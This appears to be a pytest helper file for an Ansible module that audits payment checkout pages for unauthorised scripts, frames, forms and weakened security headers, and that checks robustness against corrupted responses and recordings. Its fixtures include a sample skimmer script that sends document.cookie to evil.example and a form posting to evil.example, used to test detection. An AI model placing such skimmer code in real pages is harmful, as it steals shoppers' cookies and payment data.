# SPDX-License-Identifier: GPL-3.0-or-later

"""Payment pages with something wrong, fetched or recorded, and what can be taken away from what is received and kept of them."""

import base64
import copy
import dataclasses
import functools
import itertools
import json
import shutil
import typing as t
from pathlib import Path

import pytest
from properties.decisions import EVERYTHING, Decision, Place, reported
from properties.losses import at, file_losses, leaves, member_losses, place_of, with_value
from properties.trouble import AUTHORISED, ZONE_ID
from support.samples import fleet
from support.site import HTML, Page, Site

from ansible_collections.edgeops.observability.plugins.module_utils._core import GATE
from ansible_collections.edgeops.observability.plugins.module_utils._pages import audit
from ansible_collections.edgeops.observability.plugins.module_utils._pages.facts import PAGE_FINDINGS, UNREAD
from ansible_collections.edgeops.observability.plugins.module_utils._pages.fetch import Fetcher
from ansible_collections.edgeops.observability.plugins.plugin_utils._report.facts import TYPES

Document = dict[str, t.Any]
PATH, CART = "/checkout", "/cart"
SHOP = "https://shop.example/checkout"
POLICY = "script-src 'self' https://cdn.example; frame-ancestors 'none'"
HEADERS = (("Content-Security-Policy", POLICY), ("X-Frame-Options", "DENY"))
SCRIPT = "<script src=https://cdn.example/pay.js></script>"
CHECKOUT = f"<!doctype html><title>Checkout</title>{SCRIPT}<script>let total = 12;</script><form method=post></form>"
SKIMMER = "<script>new Image().src = 'https://evil.example/?' + document.cookie</script>"
FRAME, FORM = "<iframe src=https://frames.example/f></iframe>", "<form action=https://evil.example/pay></form>"
# What a page sends where nobody is known to have a cart.
EMPTY = b"<!doctype html><title>Cart</title><p>Your cart is empty."
BEFORE, AT = "2026-11-01T06:00:00Z", "2026-11-02T06:00:00Z"
RECORDED = "2026-11-02T00:00:00Z"


class PageLoss(t.NamedTuple):
    """One thing that is taken away: from what, the place, how, and the change."""

    of: str
    place: str
    kind: str
    change: t.Callable[[t.Any], t.Any]

    @property
    def cause(self) -> tuple[str, str, str]:
        return self.of, self.place, self.kind

    def __str__(self) -> str:
        return f"{self.of} {self.place}: {self.kind}"


@dataclasses.dataclass
class Audited:
    """A page, what is received of it, its baselines, and the folder with its evidence; a loss changes one of them."""

    site: Site
    place: Place
    tells: tuple[str, ...]
    baseline: list[Document]
    options: Document
    page: Page
    recording: Document | None
    evidence: Path
    head: str | None
    # Whether what is wrong is in the evidence of earlier audits, or beside it.
    has_history: bool = False
    # What is another page, or another authorisation, and no lack of knowledge.
    allowed: tuple[tuple[str, str, str], ...] = ()

    def run(self, loss: PageLoss | None = None) -> Decision:
        """Audit the page, report on it, and return what that tells, and what stands in the evidence."""
        of_answers = loss.change if loss and loss.of in ("page", "second fetch") else None
        self._fetched(of_answers, every=bool(loss and loss.of == "page"))
        folder = self.place.fresh()
        shutil.copytree(self.evidence, folder / "evidence")
        (chain,) = (folder / "evidence").glob("*.jsonl")
        recording = folder / "page.har"
        if self.recording is not None:
            recording.write_bytes(json.dumps(self.recording).encode())
        baseline: t.Any = json.dumps(self.baseline)
        if loss and loss.of in ("recording", "chain"):
            file = recording if loss.of == "recording" else chain
            content = loss.change(file.read_bytes())
            file.unlink()
            if content is not None:
                file.write_bytes(content)
        if loss and loss.of == "baseline":
            baseline = loss.change(baseline)
        page = {"url": SHOP, "har": str(recording)} if self.recording is not None else {"url": self.site.url(PATH)}
        args = {
            "zone_id": ZONE_ID,
            "pages": [page],
            "baseline": baseline,
            "evidence_dir": str(folder / "evidence"),
            "expected_head": self.head,
            "fail_on": list(self.tells),
            "at": AT,
            **self.options,
        }
        result = self.place.local("page_audit", args)
        records = chain.read_bytes().splitlines() if "findings" in result else []
        shutil.rmtree(folder)
        return self._decision(result, records)

    def _fetched(self, change: t.Callable[[Page], Page] | None, *, every: bool) -> None:
        """Let the site answer with a changed page, each time or from the second time on."""
        requests = itertools.count()

        def answer() -> Page:
            is_changed = next(requests) > 0 or every
            return change(self.page) if change and is_changed else self.page

        self.site.pages[PATH] = answer

    def _decision(self, result: Document, records: t.Sequence[bytes]) -> Decision:
        if "findings" not in result:
            return Decision(frozenset({EVERYTHING}), frozenset(), result["msg"])
        kinds = {finding["kind"] for finding in result["findings"]}
        gates = result.get("failed") and result["error"]["kind"] == GATE
        tells = {"the task passes"} if gates else set()
        tells |= set() if result["passed"] else {"the audit passed"}
        of_report = {name: value for name, value in result.items() if name not in ("failed", "msg", "error")}
        named = [name for name in self.options.get("fail_on", self.tells) if name in TYPES]
        report = reported(self.place, [{**fleet.record("shop.example"), "pages": of_report}], named)
        tells |= {"the report passes"} if report.tells else set()
        # What was not read, or is another page, explains what is no longer found.
        tells |= set(PAGE_FINDINGS) if kinds & {UNREAD, "redirected", "history_broken"} else kinds
        return Decision(frozenset(tells), frozenset(_kept(records, result)), str(result.get("msg") or kinds))


def _kept(records: t.Sequence[bytes], result: Document) -> t.Iterator[str]:
    """Yield what the last record says that was seen."""
    lines = [json.loads(line) for line in records]
    record = lines[-1]
    pages = record.get("pages")
    if pages is None:
        pages = next(line["pages"] for line in lines if line["seq"] == record["pages_same_as"])
    if record["passed"]:
        yield "passed"
    if sorted(finding["kind"] for finding in record["findings"]) != sorted(finding["kind"] for finding in result["findings"]):
        yield "other findings than the result has"
    for page in pages:
        yield from (f"header {name}" for name, value in page["headers"].items() if value is not None)
        yield from (f"inline {code['kind']} {code['shape']}" for code in page["inline"])
        for part in ("scripts", "frames", "forms"):
            yield from (f"{part} {json.dumps(item, sort_keys=True)}" for item in page[part])


# What is wrong now, by what it has to tell: the document, the headers, or what a browser loaded.


def _fetched_page(
    site: Site,
    place: Place,
    *tells: str,
    html: str = CHECKOUT,
    headers: tuple[tuple[str, str], ...] = HEADERS,
    change: t.Callable[[Document], Document] = lambda entry: entry,
    har: bool | str = False,
    loaded: t.Sequence[Document] = (),
    before: str = BEFORE,
    allowed: tuple[tuple[str, str, str], ...] = (),
    has_history: bool = False,
    **options: t.Any,
) -> Audited:
    """Return a page whose present state an entry authorised before something went wrong."""
    whole = Page(CHECKOUT.encode(), HEADERS)
    site.pages[PATH] = whole
    site.pages[CART] = Page(EMPTY)
    url = SHOP if har else site.url(PATH)
    folder = place.fresh()
    evidence = folder.parent / f"{folder.name}-evidence"
    folder.mkdir(parents=True)
    recording = folder / "page.har"
    earlier = recorded(whole, as_base64=False)
    earlier["log"]["entries"][0]["startedDateTime"] = before
    recording.write_text(json.dumps(earlier))
    page = {"url": url, "har": str(recording)} if har else {"url": url}

    def audited(baseline: t.Any, **more: t.Any) -> Document:
        return place.local("page_audit", {"zone_id": ZONE_ID, "pages": [page], "baseline": baseline, "at": before, **more})

    (proposal,) = audited([])["proposals"]
    entry = {**proposal, **AUTHORISED, "authorised_on": "2026-10-01"}
    head = audited([entry], evidence_dir=str(evidence))["evidence"]["head"]
    shutil.rmtree(folder)
    now = Page(html.encode(), headers)
    har_text = recorded(now, as_base64=har == "base64", loaded=loaded) if har else None
    return Audited(site, place, tells, [change(entry)], options, now, har_text, evidence, head, has_history, allowed)


def _entry(
    url: str, kind: str, mime: str, content: Document, headers: t.Sequence[tuple[str, str]] = (), **more: t.Any
) -> Document:
    listed = [{"name": name, "value": value} for name, value in (("Content-Type", mime), *headers)]
    return {
        "startedDateTime": RECORDED,
        "pageref": "p",
        "_resourceType": kind,
        "request": {"method": "GET", "url": url, "headers": []},
        "response": {"status": 200, "headers": listed, "content": {"mimeType": mime, **content}, "redirectURL": "", **more},
    }


def recorded(page: Page, *, as_base64: bool, loaded: t.Sequence[Document] = ()) -> Document:
    """Return the recording of a page, as a browser saves it."""
    text: Document = {"text": page.body.decode()}
    if as_base64:
        text = {"text": base64.b64encode(page.body).decode(), "encoding": "base64"}
    document = _entry(SHOP, "document", HTML, {"size": len(page.body), **text}, page.headers)
    return {"log": {"version": "1.2", "pages": [{"id": "p"}], "entries": [document, *loaded]}}


_TAG = _entry("https://tags.example/t.js", "script", "text/javascript", {"size": 1, "text": ";"})
_LOADED_FRAME = _entry("https://frames.example/f", "document", HTML, {"size": 4, "text": "<p>f"})
_WITH_SKIMMER, _WITHOUT_SCRIPT = CHECKOUT + SKIMMER, CHECKOUT.replace(SCRIPT, "")
_WEAKER = (("Content-Security-Policy", "script-src *"), HEADERS[1])
_ADDED = (*HEADERS, ("Access-Control-Allow-Origin", "*"))
_ADDED_IS_GONE = (
    *((of, "header access-control-allow-origin", "absent") for of in ("page", "second fetch")),
    # Another name is another header.
    ("recording", "log.entries[].response.headers[].name", "unknown word"),
)

# Without an entry no page is another one than was authorised, and the finding says that nothing of it was.
_ANY_PAGE_IS_NEW = tuple((of, "redirect", "to another page") for of in ("page", "second fetch"))


def _requires(entry: Document) -> Document:
    return {**entry, "scripts": [{"url": "https://cdn.example/pay.js", "required": True}]}


def _requires_integrity(entry: Document) -> Document:
    return {**entry, "scripts": [{"url": "https://cdn.example/pay.js", "integrity": "required"}]}


Made = t.Callable[[Site, Place], Audited]


def _of(*tells: str, **options: t.Any) -> Made:
    return lambda site, place: _fetched_page(site, place, *tells, **options)


_WRONG: t.Mapping[str, tuple[tuple[str, ...], Document]] = {
    "inline code": (("inline_new",), {"html": _WITH_SKIMMER}),
    "script": (("script_new",), {"html": CHECKOUT + "<script src=https://evil.example/e.js></script>"}),
    "frame": (("frame_new",), {"html": CHECKOUT + FRAME}),
    "form": (("form_new",), {"html": CHECKOUT + FORM}),
    "weaker header": (("header_changed",), {"headers": _WEAKER}),
    "missing header": (("header_changed",), {"headers": HEADERS[1:]}),
    "added header": (("header_changed",), {"headers": _ADDED, "allowed": _ADDED_IS_GONE}),
    "policy of the document": (
        ("header_changed",),
        {"html": CHECKOUT.replace("<title>", "<meta http-equiv=content-security-policy content='script-src *'><title>")},
    ),
    "required script": (("gone",), {"html": _WITHOUT_SCRIPT, "change": _requires}),
    "script without integrity": (("script_new",), {"change": _requires_integrity}),
}
PAGES_WITH_TROUBLE: t.Mapping[str, Made] = {
    **{f"fetched: {name}": _of(*tells, **options) for name, (tells, options) in _WRONG.items()},
    **{f"recorded: {name}": _of(*tells, har=True, **options) for name, (tells, options) in _WRONG.items()},
    "fetched: page without entry": _of(
        "page_new", change=lambda entry: {**entry, "page": "https://other.example/"}, allowed=_ANY_PAGE_IS_NEW
    ),
    "fetched: entry past its review": _of("expired", change=lambda entry: {**entry, "review_by": "2026-11-01"}),
    "fetched: entry without owner": _of("unjustified", change=lambda entry: {**entry, "owner": None}),
    "fetched: script of an entry past its review": _of(
        "expired",
        change=lambda entry: {**entry, "scripts": []},
        script_baseline=[{"name": "pay", "url": "https://cdn.example/pay.js", **AUTHORISED, "review_by": "2026-11-01"}],
    ),
    "fetched: gap": _of(
        "evidence_gap", before="2026-10-02T06:00:00Z", has_history=True, fail_on=["evidence_gap", "history_broken"]
    ),
    "fetched: inline code after an audit": _of("inline_new", html=_WITH_SKIMMER, has_history=True),
    "recorded: loaded script": _of("script_new", har=True, loaded=[_TAG]),
    "recorded: loaded frame": _of("frame_new", har=True, loaded=[_LOADED_FRAME]),
    "recorded: inline code in Base64": _of("inline_new", har="base64", html=_WITH_SKIMMER),
    "recorded: header in Base64": _of("header_changed", har="base64", headers=_WEAKER),
}


# What can be taken away from an answer.


def _with_header(page: Page, name: str, *values: str) -> Page:
    kept = tuple(header for header in page.headers if header[0].lower() != name.lower())
    return page._replace(headers=(*kept, *((name, value) for value in values)))


def _with_status(status: int, page: Page) -> Page:
    return page._replace(status=status)


def _redirect(to: str, page: Page) -> Page:
    return Page(b"", (("Location", to),), 302)


_CHALLENGE = Page(b"<script src=/cdn-cgi/challenge-platform/h/b/orchestrate></script>", status=403)


def _of_answers(site: Site) -> t.Iterator[tuple[str, str, t.Callable[[Page], Page]]]:
    yield "answer", "none", functools.partial(_with_status, 0)
    for status in (204, 301, 304, 401, 403, 404, 410, 429, 500, 503):
        yield "status", str(status), functools.partial(_with_status, status)
    yield "body", "empty", lambda page: page._replace(body=b"")
    yield "body", "blank", lambda page: page._replace(body=b" \n")
    yield "challenge", "body", lambda _page: _CHALLENGE
    yield "challenge", "header", lambda page: _with_header(_CHALLENGE._replace(status=200), "cf-mitigated", "challenge")
    for part in (0, 2, 3):
        yield (
            "body",
            "cut",
            lambda page, part=part: page._replace(
                body=page.body[: len(page.body) * part // 4], headers=(*page.headers, ("Content-Length", str(len(page.body))))
            ),
        )
    other_origin = site.origin.replace("127.0.0.1", "localhost")
    targets = {
        "another page": CART,
        "itself": PATH,
        "another origin": other_origin + CART,
        "plain http": "http://shop.example/",
        "no page": "mailto:x@example.com",
        "no address": "http://[",
        "user": site.origin.replace("//", "//user@") + PATH,
        "nothing": "",
    }
    for name, target in targets.items():
        yield "redirect", f"to {name}", functools.partial(_redirect, target)
    for coding in ("gzip", "br", "zzz"):
        yield "coding", coding, lambda page, coding=coding: _with_header(page, "Content-Encoding", coding)
    types = (
        None,
        "",
        "zzz",
        "text/plain",
        "application/xhtml+xml",
        "application/json",
        "text/html; charset=zzz",
        "text/html, text/plain",
    )
    for kind in types:
        yield "type", str(kind), lambda page, kind=kind: page._replace(content_type=kind)
    yield "type", "two", lambda page: page._replace(headers=(*page.headers, ("Content-Type", "text/plain")))


def _of_headers(page: Page) -> t.Iterator[tuple[str, str, t.Callable[[Page], Page]]]:
    for name, value in page.headers:
        place = f"header {name.lower()}"
        yield place, "absent", lambda page, name=name: _with_header(page, name)
        yield place, "repeated", lambda page, name=name, value=value: _with_header(page, name, value, value)
        yield place, "empty text", lambda page, name=name: _with_header(page, name, "")
        yield place, "unknown word", lambda page, name=name: _with_header(page, name, "zzz")
        yield place, "not readable", lambda page, name=name: _with_header(page, name, "\x80\xff")


def page_losses(audited: Audited) -> t.Iterator[PageLoss]:
    """Yield what can be taken away from what an audit receives and reads: answers or a recording, the baseline, and the evidence."""
    if audited.recording is None:
        for of in ("page", "second fetch"):
            for place, kind, change in (*_of_answers(audited.site), *_of_headers(audited.page)):
                yield PageLoss(of, place, kind, change)
    else:
        yield from _recording_losses(audited.recording)
    (chain,) = audited.evidence.glob("*.jsonl")
    for loss in file_losses(chain.name, chain.read_bytes()) if audited.has_history else ():
        yield PageLoss("chain", loss.place, loss.kind, lambda _content, loss=loss: loss.content)
    whole = json.dumps(audited.baseline)
    for part in (0, 1, len(whole) // 2, len(whole) - 1):
        yield PageLoss("baseline", "", "cut", lambda text, part=part: text[:part])
    for kind, value in (("emptied", {}), ("other type", 7), ("items of other type", [7])):
        yield PageLoss("baseline", "", kind, lambda _text, value=value: value)


_WORDS = ("_resourceType", "mimeType", "method", "encoding", "pageref", "id", "name")


def _recording_losses(recording: Document) -> t.Iterator[PageLoss]:
    whole = json.dumps(recording).encode()
    yield PageLoss("recording", "", "absent", lambda _content: None)
    for part in (0, 1, len(whole) // 2, len(whole) - 1):
        yield PageLoss("recording", "", "cut", lambda content, part=part: content[:part])
    changes = [(path, kind, change) for path, kind, change in member_losses(recording)]
    for path in leaves(recording):
        value, name = at(recording, path), path[-1]
        if name in _WORDS and isinstance(value, str):
            changes.append((path, "unknown word", lambda document, path=path: with_value(document, path, "zzz")))
            changes.append(
                (path, "other case", lambda document, path=path, value=value: with_value(document, path, value.upper()))
            )
        if name == "text":
            for part in (1, 2, 3):
                cut = value[: len(value) * part // 4]
                changes.append((path, "cut", lambda document, path=path, cut=cut: with_value(document, path, cut)))
    changes.append((("log", "entries", 0), "dropped", _without_document))
    changes.append((("log", "entries", 0), "repeated", _twice))
    for path, kind, change in changes:
        yield PageLoss(
            "recording",
            place_of(path),
            kind,
            lambda content, change=change: json.dumps(change(json.loads(content))).encode(),
        )


def _without_document(document: Document) -> Document:
    changed = copy.deepcopy(document)
    del changed["log"]["entries"][0]
    return changed


def _twice(document: Document) -> Document:
    changed = copy.deepcopy(document)
    changed["log"]["entries"].insert(0, copy.deepcopy(changed["log"]["entries"][0]))
    return changed


def without_waiting(patch: pytest.MonkeyPatch) -> None:
    """Let the fetcher try again at once."""
    patch.setattr(audit, "Fetcher", functools.partial(Fetcher, sleep=lambda _seconds: None))
